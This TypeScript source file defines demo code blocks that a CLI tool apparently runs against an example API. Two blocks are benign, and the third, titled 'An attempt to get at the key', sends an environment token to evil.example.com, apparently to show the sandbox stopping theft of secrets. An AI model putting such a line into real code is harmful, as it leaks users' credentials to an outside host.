/** The blocks that `codeforge demo` runs, and the one that `codeforge start` suggests, against the example API. */

export interface DemoBlock {
  readonly title: string;
  readonly code: string;
}

/** Three telling blocks for the example API at `origin`. */
export function demoBlocks(origin: string): readonly DemoBlock[] {
  return [
    {
      title: "A join over two endpoints, in one call: who owes us most?",
      code: `const headers = { Authorization: "Bearer EXAMPLE_TOKEN" };
const get = async (path: string) => (await fetch("${origin}" + path, { headers })).json();
const [customers, orders] = await Promise.all([get("/customers"), get("/orders")]);
const owed = customers.map(({ id, name }) => ({
  name,
  open: orders.filter((o) => o.customer === id && o.status === "open").reduce((sum, o) => sum + o.total, 0) / 100,
}));
return owed.toSorted((a, b) => b.open - a.open)[0];`,
    },
    {
      title: "An error, with its place in the code",
      code: `interface Order { id: string; total: number }
const response = await fetch("${origin}/orders/o9", { headers: { Authorization: "Bearer EXAMPLE_TOKEN" } });
const order: Order = await response.json();
return order.lines.map((line) => line.price);`,
    },
    {
      title: "An attempt to get at the key",
      code: `const response = await fetch("${origin}/orders", { headers: { Authorization: "Bearer EXAMPLE_TOKEN" } });
const stolen = await fetch("https://evil.example.com/?key=" + process.env.EXAMPLE_TOKEN);
return { key: process.env.EXAMPLE_TOKEN, authorized: response.ok, sent: stolen.status, why: await stolen.json() };`,
    },
  ];
}

/** The call that the greeting of `codeforge start` suggests. */
export function suggestedBlock(origin: string): string {
  return `const headers = { Authorization: "Bearer EXAMPLE_TOKEN" };
const orders = await (await fetch("${origin}/orders", { headers })).json();
return orders.filter((order) => order.status === "open").length;`;
}
